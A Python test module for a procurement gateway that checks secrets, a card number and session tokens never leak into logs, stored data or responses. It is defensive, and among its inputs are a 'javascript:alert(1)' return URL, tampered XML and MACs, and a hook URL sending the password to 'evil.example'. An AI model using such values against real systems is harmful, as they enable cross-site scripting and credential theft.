"""What is secret stands in no log, in no database and in no answer."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import httpx
import pytest
import sqlalchemy as sa

from bench.house import House
from gateway.config import Settings
from gateway.store.database import Database
from gateway.store.tables import metadata, receipt
from tests.attack.conftest import (
    PASSWORD,
    RETURN_URL,
    THEIR_SECRET,
    called_up,
    oci_profile,
    their_profile,
)
from tests.attack.test_credentials import of_theirs, their_mac, with_mac
from tests.attack.user import User
from tests.databases import BOTH, SQLITE, Server, programs
from tests.missing import missing
from tests.shop import SECRET, SECRET_NAME, Counter, furnish, profile_for

CARD = "4111111111111111"
GUESS = "a secret that was guessed"
MAC = their_mac()


@dataclass
class Left:
    """What a gateway left behind, and what it said to those outside."""

    logs: bytes
    kept: bytes
    said: bytes
    tokens: dict[str, str]
    """What opens sessions, by what it is."""


@pytest.fixture(scope="module", params=BOTH)
def left(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Left]:
    """A gateway that is asked by friends and by strangers, and ended."""
    home = tmp_path_factory.mktemp("secrets")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(SECRET_NAME, SECRET)
        patch.setenv("BRYCE_SECRET", THEIR_SECRET)
        patch.setenv("ELBTAL_PASSWORD", PASSWORD)
        if request.param == SQLITE:
            yield asked(House(home), lambda: b"")
        else:
            server: Server = request.getfixturevalue("server")
            with server.new() as url:
                yield asked(House(home, url), lambda: dumped(url))


def dumped(url: str) -> bytes:
    """All of a PostgreSQL database, as text."""
    found = programs()
    if found is None:
        missing("there is no pg_dump")
    words = [str(found / "pg_dump"), "--inserts", url.replace("+psycopg", "")]
    return subprocess.run(words, check=True, capture_output=True).stdout


def read_out(settings: Settings) -> bytes:
    """Every value of every table, what is packed unpacked."""
    db = Database.open(settings)
    found = []
    with db.read() as tx:
        for table in metadata.sorted_tables:
            for row in tx.execute(sa.select(table)):
                found += [
                    one if isinstance(one, bytes) else str(one).encode() for one in row
                ]
        sums = list(tx.execute(sa.select(receipt.c.sha256)).scalars())
        for blob in db.payloads.load(tx, sums).values():
            found += blob.chunks()
    db.close()
    return b"\n".join(found)


def asked(house: House, dump: Callable[[], bytes]) -> Left:
    """Everything that a secret is part of, done once, well and badly."""
    furnish(house.settings, profile_for(RETURN_URL), their_profile(), oci_profile())
    said: list[bytes] = []
    with house.open():
        shop = Counter(return_url=RETURN_URL, address=house.address)
        hooks = {"response": [lambda answer: said.append(told(answer))]}
        with httpx.Client(base_url=house.address, event_hooks=hooks) as shop.http:
            order = shop.order()
            for document in (
                order,
                order.replace(SECRET, GUESS),
                order.replace("</cXML>", ""),
                order.replace("<SharedSecret>", "<SharedSecret><x>"),
                shop.order().replace("<BillTo>", card() + "<BillTo>"),
                with_mac(of_theirs(shop.order()), MAC),
                with_mac(of_theirs(shop.order()), MAC[:-2] + "AA"),
                shop.setup(return_url="javascript:alert(1)"),
            ):
                shop.ask(document)
            for method in ("GET", "POST"):
                called_up(shop, method)
                called_up(shop, method, PASSWORD=GUESS)
                called_up(shop, method, HOOK_URL=f"https://evil.example/{PASSWORD}")
            start = shop.start()
            user = User.of(shop, start)
            user.add()
            user.ask("POST", f"{user.base}/leave", csrf=user.csrf, how="cart")
            bare = User(shop)
            path = bare.ask("GET", shop.start()).headers["location"]
            shop.http.get(path)
            User(shop).get(start)
    ((_, key),) = user.cookies.items()
    tokens = {
        "start": start.rpartition(".")[2],
        "cookie": key,
        "path": re.split(r"[./]", path)[-2],
        "form": user.csrf,
    }
    logs = (house.home / "log").read_bytes()
    files = [one for one in house.home.rglob("*") if one.is_file()]
    kept = b"".join(one.read_bytes() for one in files if one.name != "log")
    kept += dump() + read_out(house.settings)
    return Left(logs, kept, b"".join(said), tokens)


def told(answer: httpx.Response) -> bytes:
    """Head and body of an answer, but for what is meant for the user's browser."""
    answer.read()
    kept_back = ("set-cookie", "location")
    head = [f"{k}: {v}" for k, v in answer.headers.items() if k not in kept_back]
    return "\n".join(head).encode() + answer.content


def card() -> str:
    """A number of a card, as some buyers send it."""
    return f'<Payment><PCard number="{CARD}" expiration="2030-01-31"/></Payment>'


SECRETS = {
    "our secret": SECRET,
    "theirs": THEIR_SECRET,
    "a guess": GUESS,
    "the MAC": MAC,
    "the OCI password": PASSWORD,
    "the card": CARD,
}


@pytest.mark.parametrize("name", SECRETS)
def test_no_secret_is_kept_or_told(name: str, left: Left):
    secret = SECRETS[name].encode()
    assert len(left.logs) > 1000
    assert b"AN01777000010" in left.kept
    found = {
        place
        for place in ("logs", "kept", "said")
        if secret in getattr(left, place) or quoted(secret) in getattr(left, place)
    }
    assert found == set()


def quoted(secret: bytes) -> bytes:
    """The same as a form or an address has it."""
    return secret.replace(b" ", b"+")


@pytest.mark.parametrize("name", ["start", "cookie", "path", "form"])
def test_what_opens_a_session_is_not_kept_or_logged(name: str, left: Left):
    token = left.tokens[name].encode()
    assert len(token) >= 16
    assert token not in left.logs
    assert token not in left.kept
